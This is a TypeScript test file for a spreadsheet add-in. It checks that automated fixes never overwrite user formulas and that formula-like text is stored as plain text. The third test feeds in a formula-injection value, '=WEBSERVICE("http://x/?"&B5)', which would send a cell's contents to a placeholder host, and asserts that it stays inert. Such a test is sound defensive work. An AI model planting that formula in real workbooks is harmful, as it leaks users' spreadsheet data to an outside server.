/** A fix computed from a formula's result must never replace the user's formula with a constant. */
import { setValue } from "../../../src/core/plan/editPlan";
import { seedSheet } from "../../helpers/forms";
import { fakeWith, hostFor } from "./helpers";
import { cellAt } from "../../helpers/cells";

test("apply refuses to write over a formula, writes nothing, and says why", async () => {
  const excel = fakeWith(20, seedSheet());
  const sheet = excel.find("申报表")!;
  sheet.set(7, 3, "326.60", '=TEXT(326.6,"0.00")');
  const { host } = hostFor(excel);
  const res = await host.apply({
    title: { zh: "修复", en: "Fix" },
    edits: [setValue(cellAt("申报表", "D9"), 1, sheet.get(8, 3)), setValue(cellAt("申报表", "D8"), 326.6, "326.60")],
  });
  expect(res.ok).toBe(false);
  if (!res.ok) expect(res.reason.zh).toContain("公式");
  expect(sheet.cells.get("7,3")).toEqual({ value: "326.60", formula: '=TEXT(326.6,"0.00")' });
  expect(excel.writeSyncs).toHaveLength(0);
});

test("a formula that moved down with an inserted row is still protected", async () => {
  const excel = fakeWith(20, seedSheet());
  const sheet = excel.find("申报表")!;
  sheet.set(7, 3, 300, "=100+200");
  const { host } = hostFor(excel);
  const res = await host.apply({
    title: { zh: "修复", en: "Fix" },
    edits: [{ op: "insertRows", sheet: "申报表", row: 4, count: 1, formatFrom: 5 }, setValue(cellAt("申报表", "D9"), 1, 300)],
  });
  expect(res.ok).toBe(false);
  expect(excel.writeSyncs).toHaveLength(0);
});

test("text that looks like a formula (a custom template's name) is written as text, never as a formula", async () => {
  const excel = fakeWith(20, seedSheet());
  const sheet = excel.find("申报表")!;
  const { host } = hostFor(excel);
  const res = await host.apply({
    title: { zh: "插入", en: "Insert" },
    edits: [setValue(cellAt("申报表", "H50"), '=WEBSERVICE("http://x/?"&B5)', null), setValue(cellAt("申报表", "H51"), "-5%", null)],
  });
  expect(res).toEqual({ ok: true });
  expect(sheet.cells.get("49,7")).toEqual({ value: '=WEBSERVICE("http://x/?"&B5)' });
  expect(sheet.cells.get("50,7")).toEqual({ value: "-5%" });
});
